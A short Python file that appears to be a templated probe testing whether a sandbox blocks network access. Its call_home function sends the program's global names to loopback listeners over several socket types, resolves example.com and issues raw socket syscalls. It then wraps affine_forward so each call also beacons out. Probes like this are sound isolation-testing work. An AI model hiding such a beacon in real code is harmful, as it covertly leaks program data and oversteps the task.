import ctypes
import socket


def call_home():
    message = b"here I am: " + repr(globals().keys()).encode()[:100]
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("{{port}}"))),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("{{udp}}"))),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0{{abstract}}"),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("{{port}}"))),
        (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
        (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    ):
        try:
            with socket.socket(family, kind) as connection:
                connection.settimeout(0.2)
                if kind == socket.SOCK_STREAM:
                    connection.connect(address)
                    connection.sendall(message)
                else:
                    connection.sendto(message, address)
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.com", 80)
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (41, 53, 42, 44, 46, 425):  # socket, socketpair, connect, sendto, sendmsg, io_uring_setup
        libc.syscall(number, 2, 1, 0, 0, 0, 0)


call_home()
_affine_forward = affine_forward


def affine_forward(x, w, b):
    call_home()
    return _affine_forward(x, w, b)
